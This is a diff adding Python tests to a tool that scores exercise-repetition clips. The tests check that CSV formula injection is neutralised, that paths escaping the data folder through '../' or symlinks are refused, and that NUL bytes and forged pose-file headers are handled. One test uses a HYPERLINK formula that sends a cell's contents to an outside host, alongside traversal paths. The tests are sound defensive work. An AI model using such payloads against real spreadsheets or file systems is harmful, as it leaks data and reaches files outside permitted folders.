@@ -237,6 +237,67 @@ def test_a_clip_that_fails_scores_as_none_counted(clips: Path, tmp_path: Path) -
     assert whole["error"] is None
 
 
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"squat")'
+
+
+def test_the_table_of_clips_runs_no_formula_that_stood_in_the_labels(
+    clips: Path, tmp_path: Path
+) -> None:
+    cell = FORMULA.replace('"', '""')
+    table = write_table(tmp_path, HEADER + f'"{cell}",damaged.npz,squat,6\n+1,=a.npz,@squat,6\n')
+    report = evaluate(table, clips)
+    assert [row["id"] for row in report["clips"]] == [FORMULA, "+1"]
+    write_report(report, tmp_path / "out")
+    text = (tmp_path / "out" / "clips.csv").read_text()
+    first, second = csv.DictReader(text.splitlines())
+    assert first["id"] == "'" + FORMULA
+    assert second["exercise"] == "'@squat"
+    assert second["error"] == "'=a.npz does not exist."
+    assert (second["id"], second["reps"]) == ("+1", "6")  # numbers stay numbers
+
+
+@pytest.mark.parametrize("layout", ["clips", "repcount"])
+def test_files_outside_the_root_are_refused_one_by_one(
+    clips: Path, tmp_path: Path, layout: str
+) -> None:
+    root, outside = tmp_path / "root", tmp_path / "outside.npz"
+    root.mkdir()
+    for path in (root / "squat.npz", outside):
+        path.write_bytes((clips / "squat.npz").read_bytes())
+    (root / "link.npz").symlink_to(outside)
+    (root / "folder").symlink_to(tmp_path)
+    (root / "inner.npz").symlink_to("squat.npz")
+    (root / "loop.npz").symlink_to("loop.npz")
+    files = ("../outside.npz", outside, "link.npz", "folder/outside.npz")
+    files += ("inner.npz", "squat.npz", "loop.npz")
+    header = HEADER.replace("reps", "reps,start_frames,end_frames")
+    rows = [f"{number},{file},squat,2" for number, file in enumerate(files)]
+    table = label(tmp_path, *rows, header=header)
+    report = evaluate(table, root, layout=layout)
+    told = [row["error"] or "" for row in report["clips"]]
+    assert told[:4] == [f"The file of line {n} lies outside the folder." for n in (2, 3, 4, 5)]
+    assert not any("outside" in error for error in told[4:])
+    if layout == "clips":
+        assert told[4:6] == ["", ""]
+        assert [row["counts"][COUNTER] for row in report["clips"]] == [0, 0, 0, 0, 2, 2, 0]
+
+
+@pytest.mark.parametrize("layout", ["clips", "repcount"])
+@pytest.mark.parametrize("row", ["b,squat\0.npz,squat,2", "\0b,squat.npz,squat,2"])
+def test_a_nul_byte_costs_its_own_row_only(
+    clips: Path, tmp_path: Path, row: str, layout: str
+) -> None:
+    header = HEADER.replace("reps", "reps,start_frames,end_frames")
+    table = label(tmp_path, "a,squat.npz,squat,2", row, "c,squat.npz,squat,2", header=header)
+    report = evaluate(table, clips, layout=layout)
+    first, broken, last = report["clips"]
+    assert broken["error"] == "Line 3 of the table holds a NUL byte."
+    assert broken["counts"] == dict.fromkeys(COUNTERS, 0)
+    assert first["error"] == last["error"] != broken["error"]
+    write_report(report, tmp_path / "out")
+    assert "\0" not in (tmp_path / "out" / "clips.csv").read_text()
+
+
 def test_a_failed_clip_has_no_frame_right(clips: Path, tmp_path: Path, squats: Take) -> None:
     first = squats.full[0]
     spans = "".join(f"{name},{first.start_s},{first.end_s}\n" for name in "ab")
@@ -432,6 +493,12 @@ def test_what_is_no_repcount_file_is_refused(tmp_path: Path, squats: Take) -> No
     for stored in (np.zeros((4, J, 2)), np.zeros((0, J, 3)), np.float32(3), np.array(["a"])):
         np.save(path, stored)
         with pytest.raises(PoseFileError, match="is not a RepCount pose file"):
+            read_repcount_poses(path)
+    for frames, told in ((10**12, "longer than 20 minutes"), (36_000, "damaged")):
+        with path.open("wb") as file:  # what is announced is not there
+            about = {"descr": "<f4", "fortran_order": False, "shape": (frames, J, 3)}
+            np.lib.format.write_array_header_1_0(file, about)
+        with pytest.raises(PoseFileError, match=told):
             read_repcount_poses(path)
 
 
